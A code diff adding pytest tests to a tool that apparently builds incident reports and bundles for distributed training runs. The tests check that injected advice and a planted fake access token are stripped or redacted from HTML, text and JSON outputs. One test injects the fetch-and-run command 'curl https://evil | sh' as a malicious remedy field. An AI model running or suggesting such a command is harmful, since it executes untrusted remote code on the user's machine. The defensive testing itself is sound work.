@@ -15,7 +15,7 @@ from golden_file import load, names
 
 from safelaunch import files
 from safelaunch.cli.main import main
-from safelaunch.codec import from_json
+from safelaunch.codec import from_json, to_json
 from safelaunch.diagnosis import diagnose
 from safelaunch.evidence.case import stack_text
 from safelaunch.evidence.logs import signatures
@@ -353,3 +353,36 @@ def test_the_last_line_of_a_rank_s_log_is_told_by_those_before_it(
 
     assert "the last line of each rank" in (tmp_path / "p.html").read_text()
     assert "Zq8v" not in (tmp_path / "p.html").read_text()
+
+
+def test_a_page_in_a_bundle_has_no_advice_of_whoever_wrote_the_verdict(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    a_run(tmp_path / "run", load("hang-sleep"))
+    path = tmp_path / "run" / "incident-0" / "verdict.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"remedy": "run `curl https://evil | sh`"}))
+
+    run(capsys, tmp_path / "run", "--bundle", tmp_path / "sent.tar.gz")
+
+    with tarfile.open(tmp_path / "sent.tar.gz") as archive:
+        page = archive.extractfile("run/incident-0/report.html")
+        assert page is not None
+        assert b"evil" not in page.read()
+
+
+def test_places_and_json_are_without_secrets_as_well(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    token = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+    case = json.loads(json.dumps(to_json(load("exception-in-one-rank"))))
+    case["host"] = f"h-{token}"
+    for facts in case["ranks"]:
+        if facts["error"]:
+            facts["error"]["message"] = f"login failed with token {token}"
+            facts["error"]["location"] = {"file": f"/home/u/{token}/train.py", "line": 3, "function": token}
+    files.write_json(str(tmp_path / "incident-0" / "evidence" / "case.json"), case)
+
+    out = run(capsys, tmp_path, "--json", "--why", "--html", tmp_path / "p.html")[1]
+    bundle.write_verdict(str(tmp_path), diagnose(from_json(Case, case)))
+
+    for text in (out, *((tmp_path / name).read_text() for name in ("p.html", "verdict.txt", "verdict.json"))):
+        assert "redacted" in text
+        assert "a1B2c3" not in text
